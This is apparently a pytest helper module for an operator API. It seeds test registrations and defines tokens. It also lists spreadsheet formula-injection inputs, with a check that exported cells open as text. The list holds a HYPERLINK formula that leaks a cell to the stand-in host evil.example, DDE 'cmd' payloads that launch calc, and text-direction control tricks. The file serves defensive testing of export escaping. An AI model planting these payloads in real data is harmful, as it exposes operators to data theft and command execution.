"""The operator API's test plumbing: a token and its digest, registrations seeded in bulk."""

import hashlib
import re
from datetime import UTC, datetime, timedelta

from psycopg2.extras import execute_values

TOKEN = "operator-token-for-tests"
DIGEST = hashlib.sha256(TOKEN.encode()).hexdigest()
OTHER_DIGEST = hashlib.sha256(b"someone else").hexdigest()
AUTH = {"Authorization": f"Bearer {TOKEN}"}
# Tokens with some scopes only (ADMIN_TOKENS' `<digest>:<scope>+<scope>`).
SCOPED_TOKENS = {"reader": "read", "exporter": "export+read", "eraser": "erase"}
SCOPED_ADMIN_TOKENS = ", ".join(
    f"{hashlib.sha256(token.encode()).hexdigest()}:{scopes}"
    for token, scopes in SCOPED_TOKENS.items()
)
DAY1 = datetime(2026, 11, 1, 9, 0, tzinfo=UTC)
DAY2 = datetime(2026, 11, 2, 9, 0, tzinfo=UTC)


def phone_number(n: int) -> str:
    return f"0912{n:07d}"


def seed(
    owner,
    count: int,
    start=DAY1,
    referrer="campaign",
    step=timedelta(seconds=1),
    first=0,
    user_agent="pytest",
):
    """count registrations as the schema's owner: phones 0912 + n, times start + n * step."""
    rows = [
        (phone_number(first + n), referrer, start + n * step, "203.0.113.5", user_agent)
        for n in range(count)
    ]
    with owner.cursor() as cursor:
        execute_values(
            cursor,
            "INSERT INTO registrations (phone, referrer, created_at, ip_address, user_agent,"
            " request_id) VALUES %s",
            rows,
            template="(%s, %s, %s, %s, %s, gen_random_uuid())",
        )


# What a visitor could send as a referrer or user agent to reach an operator's spreadsheet.
HOSTILE_TEXT = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    'x;=HYPERLINK("http://evil.example")',
    "x,=1+1",
    'ads";=1+1;"',
    "a;\t=1+1",
    " =1+1",
    "\t=1+1",
    "\r=1+1",
    "\tads",
    "ads\n@SUM(1)",
    "ads\r\n-1+1",
    "\u202e=1+1",
    "\u2066=cmd\u2069",
    "\u200f+1\u200e",
    "\u061c@x",
    "ads\u202eoc.live",
    "\uff1d1+1",
)
SPREADSHEET_TRIGGERS = frozenset("=+-@\uff1d\uff0b\uff0d\uff20")
DIRECTION_CONTROLS = frozenset(
    chr(code) for code in (0x061C, 0x200E, 0x200F, *range(0x202A, 0x202F), *range(0x2066, 0x206A))
)


def opens_as_text(cell: str) -> bool:
    """Whether a spreadsheet reads cell as text however it cuts it (at `,` `;` tab or a line
    break) and whether or not it trims spaces; and cell holds no text-direction control."""
    if cell[:1] in ("\t", "\r") or DIRECTION_CONTROLS & set(cell):
        return False
    return all(
        piece.lstrip()[:1] not in SPREADSHEET_TRIGGERS for piece in re.split(r"[,;\t\r\n]", cell)
    )
